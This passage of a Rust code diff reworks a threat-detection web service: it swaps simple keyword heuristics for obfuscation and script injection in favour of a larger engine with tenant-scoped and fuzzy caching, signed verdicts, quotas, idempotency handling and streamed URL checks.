+    /// Drop expired emergency rules and indicator escalations, retiring
+    /// verdicts cached while they applied
+    fn expire_temporary_rules(&self) {
+        if self.emergency.prune() {
+            self.rules_generation.fetch_add(1, Ordering::SeqCst);
+        }
+        let expired = self.recurrence.prune();
+        if !expired.is_empty() {
+            let mut cache = self.lock_cache();
+            for indicator in &expired {
+                cache::evict_indicator(&mut cache, indicator);
+            }
+        }
     }
     
-    // Check for obfuscation
-    if code.contains("atob") || code.contains("String.fromCharCode") {
-        confidence += 0.3;
-        reasons.push("Code obfuscation detected".to_string());
+    /// URL blocklist, unless this request has to do without it
+    fn url_blocklist(&self, degraded: &[&str]) -> Option<Arc<BlocklistIndex>> {
+        if degraded.contains(&"url_blocklist") {
+            None
+        } else {
+            self.url_blocklist.read().unwrap().clone()
+        }
     }
     
-    // Check for script injection
-    if code.contains("<script") || code.contains("onclick") {
-        confidence += 0.3;
-        reasons.push("Script injection pattern found".to_string());
+    /// Stamp a response with the engine state hash, and attach a signature
+    /// when a signing key is configured
+    fn sign(&self, response: &mut ThreatDetectionResponse) {
+        response.engine_state_hash = Some(self.engine_state().engine_state_hash.as_str().into());
+        let Some(signer) = &self.signer else { return };
+        let verdict = signing::Verdict {
+            is_threat: response.is_threat,
+            verdict: serde_json::to_value(response.verdict).unwrap_or_default(),
+            threat_type: response.threat_type.clone(),
+            confidence: response.confidence,
+            severity: response.severity.clone(),
+            reasons: response.reasons.clone(),
+        };
+        response.signature = Some(Box::new(signer.sign(&verdict, self.clock.utc())));
     }
     
-    let is_threat = confidence >= 0.75;
-    let severity = if confidence >= 0.85 {
-        "critical"
-    } else if confidence >= 0.65 {
-        "high"
-    } else {
-        "medium"
-    };
-    
-    ThreatDetectionResponse {
-        is_threat,
-        threat_type: "malware".to_string(),
-        confidence: confidence.min(1.0),
-        severity: severity.to_string(),
-        reasons: if reasons.is_empty() { 
-            vec!["Code appears safe".to_string()] 
-        } else { 
-            reasons 
-        },
-        latency_ms: 0,
-        cached: false,
+    fn lock_cache(&self) -> MutexGuard<'_, LruCache<String, CachedResult>> {
+        self.metrics.lock("cache", &self.cache)
+    }
+    
+    fn lock_stats(&self) -> MutexGuard<'_, DetectionStats> {
+        self.metrics.lock("stats", &self.stats)
+    }
+    
+    /// Detection context for the given tenant (its id, and its settings
+    /// when it is configured) and threshold snapshot
+    fn detection_context<'a>(
+        &'a self,
+        tenant_id: Option<&'a str>,
+        tenant: Option<&'a Tenant>,
+        thresholds: &'a HashMap<String, Thresholds>,
+        url_blocklist: Option<&'a BlocklistIndex>,
+        pipelines: &'a Pipelines,
+    ) -> DetectionContext<'a> {
+        DetectionContext {
+            lists: EffectiveLists {
+                global: &self.settings.lists,
+                tenant: tenant.map(|t| &t.lists),
+                tenant_allowlist_wins: self.settings.tenant_allowlist_wins,
+            },
+            thresholds,
+            url_blocklist,
+            settings: &self.settings,
+            detectors: &self.detectors,
+            pipelines,
+            honeytokens: &self.honeytokens,
+            emergency: &self.emergency,
+            recurrence: &self.recurrence,
+            tenant_id,
+            deadline: None,
+            clock: &*self.clock,
+        }
     }
 }
 
-fn detect_behavior(action: &str) -> ThreatDetectionResponse {
-    ThreatDetectionResponse {
-        is_threat: false,
-        threat_type: "behavioral".to_string(),
-        confidence: 0.0,
-        severity: "low".to_string(),
-        reasons: vec!["Behavior analysis pending".to_string()],
-        latency_ms: 0,
-        cached: false,
-    }
+/// Everything detectors consult besides the request itself
+pub struct DetectionContext<'a> {
+    pub lists: EffectiveLists<'a>,
+    pub thresholds: &'a HashMap<String, Thresholds>,
+    pub url_blocklist: Option<&'a BlocklistIndex>,
+    pub settings: &'a Settings,
+    pub detectors: &'a DetectorRegistry,
+    pub pipelines: &'a Pipelines,
+    pub honeytokens: &'a HoneytokenStore,
+    pub emergency: &'a EmergencyRules,
+    pub recurrence: &'a RecurrenceTracker,
+    /// Tenant of the request, configured or not, for tenant-scoped emergency rules
+    pub tenant_id: Option<&'a str>,
+    /// Client deadline from `X-Timeout-Ms`; stages not started by then are skipped
+    pub deadline: Option<std::time::Instant>,
+    /// Time source the deadline and stage budgets are read on
+    pub clock: &'a dyn Clock,
 }
 
-fn hash_string(input: &str) -> String {
-    let mut hasher = Sha256::new();
-    hasher.update(input);
-    format!("{:x}", hasher.finalize())
+impl DetectionContext<'_> {
+    /// Whether the request deadline has passed
+    fn past_deadline(&self) -> bool {
+        self.deadline.is_some_and(|deadline| self.clock.now() >= deadline)
+    }
+    
+    /// Thresholds for a request threat type
+    fn thresholds_for(&self, threat_type: &str) -> Thresholds {
+        thresholds::lookup(self.thresholds, threat_type)
+    }
+    
+    /// Severity to report when a verdict of this type is not a threat
+    fn non_threat_severity(&self, threat_type: &str) -> String {
+        self.settings
+            .non_threat_severity
+            .get(threat_type)
+            .cloned()
+            .unwrap_or_else(|| "low".to_string())
+    }
+    
+    /// Severity for a confidence score, honouring the non-threat setting
+    fn severity_for(&self, threat_type: &str, confidence: f32) -> (bool, String) {
+        let thresholds = self.thresholds_for(threat_type);
+        if thresholds.is_threat(confidence) {
+            (true, thresholds.severity(confidence).to_string())
+        } else {
+            (false, self.non_threat_severity(threat_type))
+        }
+    }
 }
 
-#[actix_web::main]
-async fn main() -> std::io::Result<()> {
-    env_logger::init_from_env(env_logger::Env::new().default_filter_or("info"));
+/// Tenant id from the `X-Tenant-Id` header, lowercased to match config keys
+fn tenant_id(req: &HttpRequest) -> Option<String> {
+    req.headers()
+        .get("X-Tenant-Id")
+        .and_then(|v| v.to_str().ok())
+        .map(|v| v.trim().to_lowercase())
+        .filter(|v| !v.is_empty())
+}
+
+/// Detection statistics
+#[derive(Default, Debug)]
+struct DetectionStats {
+    total_detections: u64,
+    threats_detected: u64,
+    cache_hits: u64,
+    cache_misses: u64,
+    cache_expired: u64,
+    cache_bypassed: u64,
+    cache_swept_expired: u64,
+    cache_swept_stale: u64,
+    degraded_verdicts: u64,
+    degraded_rejections: u64,
+    /// Computed verdicts per request threat type
+    by_type: HashMap<String, TypeCounts>,
+    /// Cache hits per request threat type
+    cache_hits_by_type: HashMap<String, u64>,
+    /// Recent latencies of cached and computed verdicts per request threat type
+    latencies_by_type: HashMap<String, Vec<u64>>,
+    /// Recent latencies of computed verdicts
+    latencies: Vec<u64>,
+    /// Recent latencies of cache hits, kept apart so they don't mask detection cost
+    cached_latencies: Vec<u64>,
+    /// Verdict agreement between candidate and active pipelines
+    agreement: RulesetAgreement,
+    /// Triage resolutions per request threat type
+    reviews_by_type: HashMap<String, ReviewCounts>,
+}
+
+impl DetectionStats {
+    /// Count one computed (non-cached) verdict for a request threat type
+    fn record(&mut self, metrics: &Metrics, threat_type: &str, result: &ThreatDetectionResponse, elapsed: Duration) {
+        metrics.observe_detection(threat_type, false, result.is_threat, elapsed);
+        self.total_detections += 1;
+        let counts = self.by_type.entry(threat_type.to_string()).or_default();
+        counts.detections += 1;
+        if result.is_threat {
+            self.threats_detected += 1;
+            counts.threats += 1;
+        }
+        if result.degraded {
+            self.degraded_verdicts += 1;
+        }
+        metrics.observe_computed(threat_type, result.latency_ms);
+        push_latency(&mut self.latencies, result.latency_ms);
+        push_latency(self.latencies_by_type.entry(threat_type.to_string()).or_default(), result.latency_ms);
+    }
     
-    info!("Starting AMD Security Layer API v1.0.0");
+    /// Count one verdict served from the cache
+    fn record_cache_hit(&mut self, metrics: &Metrics, threat_type: &str, response: &ThreatDetectionResponse, elapsed: Duration) {
+        metrics.observe_detection(threat_type, true, response.is_threat, elapsed);
+        metrics.observe_cache_hit(threat_type);
+        self.cache_hits += 1;
+        *self.cache_hits_by_type.entry(threat_type.to_string()).or_default() += 1;
+        push_latency(&mut self.cached_latencies, response.latency_ms);
+        push_latency(self.latencies_by_type.entry(threat_type.to_string()).or_default(), response.latency_ms);
+    }
+
+    /// Count a reviewer's verdict on a triaged detection the engine gave `engine`
+    fn record_review(&mut self, threat_type: &str, engine: Verdict, reviewer: Verdict) {
+        let counts = self.reviews_by_type.entry(threat_type.to_string()).or_default();
+        match reviewer {
+            Verdict::Threat => counts.threat += 1,
+            _ => counts.safe += 1,
+        }
+        match (engine, reviewer) {
+            (Verdict::Threat, Verdict::Safe) => counts.false_positives += 1,
+            (Verdict::Safe | Verdict::NeedsReview, Verdict::Threat) => counts.false_negatives += 1,
+            _ => {}
+        }
+    }
+}
+
+fn push_latency(latencies: &mut Vec<u64>, latency_ms: u64) {
+    latencies.push(latency_ms);
+    
+    // Keep only last 1000 latencies for performance
+    if latencies.len() > 1000 {
+        latencies.remove(0);
+    }
+}
+
+/// Nearest-rank percentiles of `latencies`, all 0 when there are none.
+/// Latencies are truncated to whole milliseconds, so 0 means under 1ms.
+fn percentiles(latencies: &[u64]) -> LatencyPercentiles {
+    if latencies.is_empty() {
+        return LatencyPercentiles::default();
+    }
+    let mut sorted = latencies.to_vec();
+    sorted.sort_unstable();
+    // The smallest value with at least p% of them at or below it
+    let at = |p: usize| sorted[(p * sorted.len()).div_ceil(100).max(1) - 1];
+    LatencyPercentiles { p50: at(50), p95: at(95), p99: at(99) }
+}
+
+fn mean<'a>(values: impl IntoIterator<Item = &'a u64>) -> f32 {
+    let (sum, count) = values.into_iter().fold((0u64, 0u32), |(sum, count), v| (sum + v, count + 1));
+    if count == 0 {
+        0.0
+    } else {
+        sum as f32 / count as f32
+    }
+}
+
+/// Main detection endpoint
+async fn detect_threat(
+    http_req: HttpRequest,
+    body: web::Json<serde_json::Value>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if let Some(rejection) = strict_fields(&state, &body, Shape::Detection).or_else(|| disabled(&state, &body, Shape::Detection)) {
+        return Ok(rejection);
+    }
+    let req = match validation::detection_request(body.into_inner(), &state.settings) {
+        Ok(req) => req,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    Ok(respond_to_detection(&http_req, &req, &state, false).await)
+}
+
+/// Raw-body detection endpoint: the body itself is the content
+async fn detect_raw(
+    http_req: HttpRequest,
+    query: web::Query<RawDetectionQuery>,
+    body: web::Bytes,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let content_type = http_req
+        .headers()
+        .get(actix_web::http::header::CONTENT_TYPE)
+        .and_then(|v| v.to_str().ok())
+        .map(|v| v.split(';').next().unwrap_or("").trim().to_ascii_lowercase());
+    if !content_type.as_deref().is_some_and(|t| RAW_CONTENT_TYPES.contains(&t)) {
+        return Ok(HttpResponse::UnsupportedMediaType().json(serde_json::json!({
+            "error": "Unsupported content type for raw detection",
+            "content_type": content_type,
+            "supported": RAW_CONTENT_TYPES,
+        })));
+    }
+    
+    if state.settings.strict_request_fields {
+        let params: Vec<(String, String)> = url::form_urlencoded::parse(http_req.query_string().as_bytes()).into_owned().collect();
+        let violations = validation::unexpected_params(params.iter().map(|(name, _)| name.as_str()));
+        if !violations.is_empty() {
+            return Ok(unexpected_fields(&violations));
+        }
+    }
     
-    // Initialize shared state
-    let state = web::Data::new(AppState {
-        cache: Arc::new(Mutex::new(LruCache::new(NonZeroUsize::new(10000).unwrap()))),
-        stats: Arc::new(Mutex::new(DetectionStats::default())),
+    let content = String::from_utf8_lossy(&body);
+    let lossy_utf8 = matches!(content, std::borrow::Cow::Owned(_));
+    let query = query.into_inner();
+    let body = serde_json::json!({
+        "threat_type": query.threat_type,
+        "content": content,
+        "context": query.context,
+        "explain": query.explain,
+    });
+    if let Some(rejection) = disabled(&state, &body, Shape::Detection) {
+        return Ok(rejection);
+    }
+    let req = match validation::detection_request(body, &state.settings) {
+        Ok(req) => req,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    Ok(respond_to_detection(&http_req, &req, &state, lossy_utf8).await)
+}
+
+/// Verdict response for one validated request, shared by the JSON and raw endpoints
+async fn respond_to_detection(
+    http_req: &HttpRequest,
+    req: &ThreatDetectionRequest,
+    state: &web::Data<AppState>,
+    lossy_utf8: bool,
+) -> HttpResponse {
+    // Retries carrying an Idempotency-Key get the stored response back
+    let idempotency = idempotency_key(http_req).map(|key| {
+        (client_identity(http_req), key, hash_string(&request_fingerprint(req)))
     });
+    if let Some((client, key, body_hash)) = &idempotency {
+        match state.idempotency.lookup(client, key, body_hash) {
+            Lookup::Replay(mut response) => {
+                response.idempotent_replay = true;
+                state.present(http_req, &mut response);
+                return state.detection_ok(&req.threat_type, &response);
+            }
+            Lookup::Conflict { stored_hash } => {
+                return HttpResponse::Conflict().json(serde_json::json!({
+                    "error": "Idempotency-Key was already used with a different request body",
+                    "stored_body_hash": stored_hash,
+                    "request_body_hash": body_hash,
+                }));
+            }
+            Lookup::Miss => {}
+        }
+    }
+    
+    // Replays above are free; everything from here counts against the quota
+    let usage = match state.charge_quota(http_req, 1) {
+        Ok(usage) => usage,
+        Err(refusal) => return quota_exceeded(state, &refusal),
+    };
+    let mut response = match serve_detection(http_req, req, state).await {
+        Ok(response) => response,
+        Err(closed) => {
+            state.refund_quota(http_req, 1);
+            return degraded_unavailable(&closed);
+        }
+    };
+    response.lossy_utf8 = lossy_utf8;
     
-    info!("Cache initialized with 10,000 entries");
+    if let Some((client, key, body_hash)) = idempotency {
+        state.idempotency.store(client, key, body_hash, response.clone());
+    }
     
-    // Start HTTP server
-    HttpServer::new(move || {
-        App::new()
-            .app_data(state.clone())
-            .route("/api/detect", web::post().to(detect_threat))
-            .route("/api/detect/batch", web::post().to(detect_batch))
-            .route("/api/health", web::get().to(health))
-            .route("/api/stats", web::get().to(get_statistics))
-    })
-    .bind("0.0.0.0:8080")?
-    .workers(num_cpus::get())
-    .run()
-    .await
+    state.present(http_req, &mut response);
+    with_quota_headers(state.detection_ok(&req.threat_type, &response), usage.as_ref())
+}
+
+/// Signed, linked and alerted verdict for one request, or the failed-closed
+/// components that are down and keep it from being served
+async fn serve_detection(
+    http_req: &HttpRequest,
+    req: &ThreatDetectionRequest,
+    state: &web::Data<AppState>,
+) -> std::result::Result<ThreatDetectionResponse, Vec<&'static str>> {
+    let degradation = request_degradation(http_req, state, &req.threat_type);
+    if !degradation.closed.is_empty() {
+        state.lock_stats().degraded_rejections += 1;
+        return Err(degradation.closed);
+    }
+    
+    let (mut response, cache_key) = detect_single(http_req, req, state, &degradation.open);
+    let target = state.enrichment_target(http_req, req, &response);
+    if let (Some(target), enrichment::Mode::Wait) = (&target, req.enrich) {
+        if let enrichment::Outcome::Done(report) = state.enrichments.lookup(target).await {
+            let heuristic = response.verdict;
+            state.merge_enrichment(&mut response, &req.threat_type, report);
+            state.enrichments.record(response.verdict != heuristic);
+            state.cache_enriched(&cache_key, &response);
+        }
+    }
+    state.sign(&mut response);
+    state.link_fingerprint(http_req, req, &mut response);
+    state.track_session(http_req, req, &mut response);
+    state.observe_watched(http_req, req, &response);
+    state.offer_triage(http_req, req, &mut response, Some(&cache_key));
+    // With every async slot taken the heuristic verdict is final
+    let admitted = match req.enrich {
+        enrichment::Mode::Async => target.and_then(|target| Some((target, state.enrichments.admit()?))),
+        _ => None,
+    };
+    if let Some((target, permit)) = admitted {
+        if response.detection_id.is_none() {
+            response.detection_id = Some(fingerprints::detection_id());
+        }
+        response.enrichment_pending = true;
+        let (http_req, req, state, initial) = (http_req.clone(), req.clone(), state.clone(), response.clone());
+        actix_rt::spawn(async move {
+            enrich_in_background(http_req, req, state, target, cache_key, initial).await;
+            drop(permit);
+        });
+    }
+    state.alert(http_req, req, &response);
+    state.recorder.record(http_req.path(), req, &response);
+    state.log_decision(http_req, req, &response);
+    Ok(response)
+}
+
+/// Finish an async detection: run its lookups, then store, cache and
+/// publish the merged verdict, alerting if it became a threat
+async fn enrich_in_background(
+    http_req: HttpRequest,
+    req: ThreatDetectionRequest,
+    state: web::Data<AppState>,
+    target: url::Url,
+    cache_key: String,
+    mut initial: ThreatDetectionResponse,
+) {
+    let tenant = tenant_id(&http_req).unwrap_or_default();
+    let mut presented = initial.clone();
+    state.present(&http_req, &mut presented);
+    let Some(detection_id) = state.enrichments.start(&tenant, &presented) else { return };
+    
+    initial.enrichment_pending = false;
+    let mut response = initial.clone();
+    if let enrichment::Outcome::Done(report) = state.enrichments.lookup(&target).await {
+        state.merge_enrichment(&mut response, &req.threat_type, report);
+        state.cache_enriched(&cache_key, &response);
+    }
+    let changed = response.verdict != initial.verdict;
+    if response.enriched {
+        state.enrichments.record(changed);
+    }
+    // The new signature carries its own id; `detection_id` stays the one the client holds
+    if response.enriched && response.signature.is_some() {
+        state.sign(&mut response);
+    }
+    if response.is_threat && !initial.is_threat {
+        state.alert(&http_req, &req, &response);
+    }
+    if changed {
+        state.observe_watched(&http_req, &req, &response);
+        state.log_decision(&http_req, &req, &response);
+    }
+    state.present(&http_req, &mut response);
+    state.enrichments.finish(&tenant, detection_id, changed, response);
+}
+
+/// Streamed detection: provisional verdicts from the URLs in a message as
+/// it arrives, then the full verdict on the final fragment
+async fn detect_partial(
+    http_req: HttpRequest,
+    body: web::Json<serde_json::Value>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if let Some(rejection) = strict_fields(&state, &body, Shape::Partial).or_else(|| disabled(&state, &body, Shape::Partial)) {
+        return Ok(rejection);
+    }
+    let req: PartialDetectionRequest = match serde_json::from_value(body.into_inner()) {
+        Ok(req) => req,
+        Err(e) => return Ok(invalid_request(&[Violation { pointer: String::new(), message: e.to_string() }])),
+    };
+    let mut violations = Vec::new();
+    if req.stream_id.trim().is_empty() || req.stream_id.len() > MAX_STREAM_ID_LEN {
+        violations.push(Violation {
+            pointer: "/stream_id".to_string(),
+            message: format!("must be 1 to {} bytes", MAX_STREAM_ID_LEN),
+        });
+    }
+    let threat_type = req.threat_type.clone().unwrap_or_else(|| "url".to_string());
+    if !state.settings.enabled_threat_types().contains(&threat_type.as_str()) {
+        violations.push(Violation {
+            pointer: "/threat_type".to_string(),
+            message: format!(
+                "unknown threat type {:?}; expected one of {}",
+                threat_type,
+                state.settings.enabled_threat_types().join(", ")
+            ),
+        });
+    }
+    if !violations.is_empty() {
+        return Ok(invalid_request(&violations));
+    }
+    
+    let client = client_identity(&http_req);
+    let fragment = streams::Fragment { seq: req.seq, text: &req.fragment };
+    if req.is_final {
+        // Only the full verdict is charged, before the stream is consumed
+        let usage = match state.charge_quota(&http_req, 1) {
+            Ok(usage) => usage,
+            Err(refusal) => return Ok(quota_exceeded(&state, &refusal)),
+        };
+        let finished = match state.streams.finish(&client, &req.stream_id, fragment) {
+            Ok(finished) => finished,
+            Err(e) => {
+                state.refund_quota(&http_req, 1);
+                return Ok(stream_error(&e));
+            }
+        };
+        let body = serde_json::json!({ "threat_type": threat_type, "content": finished.text, "context": req.context });
+        let detection = match validation::detection_request(body, &state.settings) {
+            Ok(detection) => detection,
+            Err(violations) => {
+                state.refund_quota(&http_req, 1);
+                return Ok(invalid_request(&violations));
+            }
+        };
+        let (mut url_hints, mut keywords) = (finished.hints, finished.keywords);
+        let (tail_hints, tail_keywords) =
+            with_stream_context(&http_req, &state, |ctx| scan_stream_text(ctx, &finished.unscanned, req.context.as_deref()));
+        url_hints.extend(tail_hints.into_iter().filter(|h| !url_hints.iter().any(|seen| seen.url == h.url)).collect::<Vec<_>>());
+        keywords.extend(tail_keywords.into_iter().filter(|k| !keywords.contains(k)).collect::<Vec<_>>());
+        let verdict = match serve_detection(&http_req, &detection, &state).await {
+            Ok(verdict) => verdict,
+            Err(closed) => {
+                state.refund_quota(&http_req, 1);
+                return Ok(degraded_unavailable(&closed));
+            }
+        };
+        let mut response = PartialDetectionResponse {
+            stream_id: req.stream_id,
+            provisional: false,
+            progress: finished.progress,
+            url_hints,
+            keywords,
+            verdict,
+        };
+        state.present_partial(&http_req, &mut response);
+        return Ok(with_quota_headers(HttpResponse::Ok().json(response), usage.as_ref()));
+    }
+    
+    let (progress, unscanned) = match state.streams.append(&client, &req.stream_id, fragment) {
+        Ok(appended) => appended,
+        Err(e) => return Ok(stream_error(&e)),
+    };
+    let (url_hints, keywords, verdict) = with_stream_context(&http_req, &state, |ctx| {
+        let (hints, keywords) = scan_stream_text(ctx, &unscanned, req.context.as_deref());
+        let (url_hints, keywords) = state.streams.add_findings(&client, &req.stream_id, hints, keywords);
+        let verdict = provisional_verdict(&url_hints, ctx);
+        (url_hints, keywords, verdict)
+    });
+    
+    let mut response = PartialDetectionResponse {
+        stream_id: req.stream_id,
+        provisional: true,
+        progress,
+        url_hints,
+        keywords,
+        verdict,
+    };
+    state.present_partial(&http_req, &mut response);
+    Ok(HttpResponse::Ok().json(response))
+}
+
+/// Run `f` with the detection context of a streamed request
+fn with_stream_context<T>(http_req: &HttpRequest, state: &AppState, f: impl FnOnce(&DetectionContext) -> T) -> T {
+    let tenant_id = tenant_id(http_req);
+    let tenants = state.tenants.read().unwrap();
+    let tenant = tenant_id.as_deref().and_then(|id| tenants.get(id));
+    let thresholds = state.thresholds.read().unwrap();
+    let url_blocklist = state.url_blocklist(&[]);
+    let pipelines = state.pipelines.read().unwrap().clone();
+    f(&state.detection_context(tenant_id.as_deref(), tenant, &thresholds, url_blocklist.as_deref(), &pipelines))
+}
+
+/// Cheap checks on newly completed stream text: each URL through the URL
+/// detector on its own, and phishing keywords. Nothing here is cached.
+fn scan_stream_text(ctx: &DetectionContext, text: &str, context: Option<&str>) -> (Vec<UrlHint>, Vec<String>) {
+    let lowered = text.to_lowercase();
+    let keywords = ctx.lists.context_keywords().filter(|k| lowered.contains(*k)).map(str::to_string).collect();
+    let hints = streams::extract_urls(text)
+        .into_iter()
+        .map(|url| {
+            let check = ThreatDetectionRequest {
+                threat_type: "url".to_string(),
+                content: url.to_string(),
+                context: context.map(str::to_string),
+                explain: false,
+                enrich: enrichment::Mode::None,
+            };
+            let result = detect_by_type("url", &check, ctx).into_result();
+            UrlHint {
+                url: url.to_string(),
+                is_threat: result.is_threat,
+                verdict: result.verdict,
+                confidence: result.confidence,
+                severity: result.severity,
+                reasons: result.reasons,
+            }
+        })
+        .collect();
+    (hints, keywords)
+}
+
+/// The worst URL verdict in a stream so far
+fn provisional_verdict(hints: &[UrlHint], ctx: &DetectionContext) -> ThreatDetectionResponse {
+    let response_type = ctx.detectors.get("url").map_or("unknown", |d| d.response_type());
+    let worst = hints.iter().max_by(|a, b| {
+        (a.is_threat, a.confidence).partial_cmp(&(b.is_threat, b.confidence)).unwrap_or(std::cmp::Ordering::Equal)
+    });
+    match worst {
+        Some(hint) => {
+            let reasons = hint.reasons.iter().map(|r| format!("{}: {}", hint.url, r)).collect();
+            let mut response =
+                ThreatDetectionResponse::new(response_type, hint.is_threat, hint.confidence, hint.severity.clone(), reasons);
+            response.verdict = hint.verdict;
+            response
+        }
+        None => ThreatDetectionResponse::new(
+            response_type,
+            false,
+            0.0,
+            ctx.non_threat_severity("url"),
+            vec!["No complete URLs yet".to_string()],
+        ),
+    }
+}
+
+fn stream_error(e: &StreamError) -> HttpResponse {
+    match e {
+        StreamError::TooLarge { .. } => HttpResponse::PayloadTooLarge().json(error_body(&e.message())),
+        StreamError::TooManyPending { .. } => HttpResponse::TooManyRequests().json(error_body(&e.message())),
+        StreamError::Incomplete { missing } => HttpResponse::Conflict().json(serde_json::json!({
+            "error": e.message(),
+            "missing_seqs": missing,
+        })),
+    }
+}
+
+/// Cached or freshly computed verdict for a single request
+fn detect_single(
+    http_req: &HttpRequest,
+    req: &ThreatDetectionRequest,
+    state: &AppState,
+    degraded: &[&str],
+) -> (ThreatDetectionResponse, String) {
+    let start = std::time::Instant::now();
+    let received = state.clock.now();
+    state.expire_temporary_rules();
+    
+    let tenants = state.tenants.read().unwrap();
+    let tenant_id = tenant_id(http_req);
+    let tenant = tenant_id.as_deref().and_then(|id| tenants.get(id));
+    
+    // Generate cache key (tenant-scoped so overlays never share verdicts,
+    // versioned so a new ruleset never serves the old one's)
+    let ruleset_version = state.ruleset_version.read().unwrap().clone();
+    let rules_generation = state.rules_generation.load(Ordering::SeqCst);
+    let cache_key = format!("{}@{}:{}/{}:{}", 
+        tenant_id.as_deref().unwrap_or(""),
+        tenant.map_or(0, |t| t.generation),
+        ruleset_version,
+        rules_generation,
+        request_fingerprint(req)
+    );
+    let hash_key = hash_string(&cache_key);
+    // Content that is unique by construction would only crowd out reusable entries
+    let bypass = state.cache_bypass.as_ref().is_some_and(|pattern| pattern.is_match(&req.content));
+    if bypass {
+        state.lock_stats().cache_bypassed += 1;
+    }
+    // Escalations evict only their indicator's entries, so a verdict whose
+    // escalation changed while it was computed is not cached, and near-duplicates
+    // never stand in for an escalated indicator
+    let indicator = state.indicator(req);
+    let escalation = || indicator.as_ref().and_then(|i| state.recurrence.escalation(i)).map(|e| e.escalated_at);
+    let escalated_at = escalation();
+    let fuzzy = fuzzy_scope(req, state).filter(|_| !bypass && escalated_at.is_none()).and_then(|scope| {
+        let simhash = fuzzy::simhash(&req.content)?;
+        let scope = format!("{}@{}:{}/{}:{}",
+            tenant_id.as_deref().unwrap_or(""),
+            tenant.map_or(0, |t| t.generation),
+            ruleset_version,
+            rules_generation,
+            scope
+        );
+        Some((scope, simhash))
+    });
+    
+    // Check cache, then near-duplicates of the content
+    if !faults(http_req).cache_miss && !bypass {
+        let mut cache = state.lock_cache();
+        let now = state.clock.now();
+        let mut expired = 0;
+        let mut lookup = |key: &str| {
+            if cache.peek(key)?.is_expired(&state.settings, now) {
+                cache.pop(key);
+                expired += 1;
+                return None;
+            }
+            let entry = cache.peek_mut(key)?;
+            let response = entry.response()?;
+            entry.record_hit(&*state.clock);
+            Some(response)
+        };
+        let hit = lookup(&hash_key).map(|response| (response, false)).or_else(|| {
+            let (scope, simhash) = fuzzy.as_ref()?;
+            let nearest = state.fuzzy.nearest(scope, *simhash, state.settings.fuzzy_cache_max_distance);
+            nearest.iter().find_map(|key| lookup(key)).map(|response| (response, true))
+        });
+        drop(cache);
+        if let Some((shared, fuzzy_cached)) = hit {
+            let mut response = shared;
+            info!("{} hit for: {}", if fuzzy_cached { "Fuzzy cache" } else { "Cache" }, &req.threat_type);
+            response.cached = true;
+            response.fuzzy_cached = fuzzy_cached;
+            let elapsed = start.elapsed();
+            response.latency_ms = elapsed.as_millis() as u64;
+            state.lock_stats().record_cache_hit(&state.metrics, &req.threat_type, &response, elapsed);
+            
+            return (response, hash_key);
+        }
+        // Expired entries are misses like absent ones
+        let mut stats = state.lock_stats();
+        stats.cache_misses += 1;
+        stats.cache_expired += expired;
+    }
+    
+    // Perform detection based on threat type
+    let thresholds = state.thresholds.read().unwrap();
+    let url_blocklist = state.url_blocklist(degraded);
+    let pipelines = state.pipelines.read().unwrap().clone();
+    let mut ctx = state.detection_context(tenant_id.as_deref(), tenant, &thresholds, url_blocklist.as_deref(), &pipelines);
+    ctx.deadline = request_deadline(http_req, &state.settings, received);
+    let mut result = state.run_detection(&actor(http_req), req, &ctx);
+    let elapsed = start.elapsed();
+    result.latency_ms = elapsed.as_millis() as u64;
+    mark_degraded(&mut result, degraded);
+    
+    // Update statistics
+    state.lock_stats().record(&state.metrics, &req.threat_type, &result, elapsed);
+    
+    // Cache result, unless degraded or cut short: it must not outlive the outage or deadline
+    if !result.degraded && !result.timed_out && !bypass && escalation() == escalated_at {
+        let mut cache = state.lock_cache();
+        if let Some((scope, simhash)) = fuzzy.filter(|_| result.is_threat || state.settings.fuzzy_cache_reuse_safe) {
+            state.fuzzy.insert(scope, simhash, hash_key.clone());
+        }
+        let entry = CachedResult::new(result.clone(), &req.threat_type, &state.settings, &ruleset_version, rules_generation, &*state.clock);
+        cache.put(hash_key.clone(), entry.with_indicator(indicator.clone()));
+        state.replication.publish(|| Message::CachePut(Box::new(replication::CacheEntry {
+            key: hash_key.clone(),
+            response: result.clone(),
+            request_type: req.threat_type.clone(),
+            ruleset_version,
+            rules_generation,
+            indicator,
+            created_at: state.clock.utc(),
+        })));
+    }
+    
+    (result, hash_key)
+}
+
+/// Detection deadline from the client's `X-Timeout-Ms`, clamped to
+/// `max_request_timeout_ms` and counted from `received` on the state clock
+fn request_deadline(http_req: &HttpRequest, settings: &Settings, received: std::time::Instant) -> Option<std::time::Instant> {
+    if settings.max_request_timeout_ms == 0 {
+        return None;
+    }
+    let ms: u64 = http_req.headers().get("X-Timeout-Ms")?.to_str().ok()?.trim().parse().ok()?;
+    Some(received + Duration::from_millis(ms.clamp(1, settings.max_request_timeout_ms)))
+}
+
+/// A batch item's slice of the batch deadline, so a slow early item leaves
+/// time for the ones after it; time an item does not use passes on under
+/// the `remaining` split. `received` and `now` are read on the state clock.
+fn batch_item_deadline(
+    settings: &Settings,
+    deadline: Option<std::time::Instant>,
+    received: std::time::Instant,
+    now: std::time::Instant,
+    index: usize,
+    count: usize,
+) -> Option<std::time::Instant> {
+    let deadline = deadline?;
+    let slice = match settings.batch_deadline_split.as_str() {
+        "equal" => deadline.saturating_duration_since(received) / count as u32,
+        "remaining" => deadline.saturating_duration_since(now) / (count - index) as u32,
+        _ => return Some(deadline),
+    };
+    Some(deadline.min(now + slice))
+}
+
+/// Faults injected into this request, if any
+fn faults(http_req: &HttpRequest) -> Faults {
+    http_req.extensions().get::<Faults>().copied().unwrap_or_default()
+}
+
+/// Components a request must do without, including injected lookup timeouts
+fn request_degradation(http_req: &HttpRequest, state: &AppState, threat_type: &str) -> components::Degradation {
+    if faults(http_req).lookup_timeout {
+        state.components.unavailable(threat_type)
+    } else {
+        state.components.degradation(threat_type)
+    }
+}
+
+/// Everything besides the content that shapes a verdict, when the request
+/// may be served a near-duplicate's verdict
+fn fuzzy_scope(req: &ThreatDetectionRequest, state: &AppState) -> Option<String> {
+    let settings = &state.settings;
+    if !settings.fuzzy_cache || !settings.fuzzy_cache_types.contains(&req.threat_type) {
+        return None;
+    }
+    // Overrides and honeytokens match exact content, which a near-duplicate hit would skip
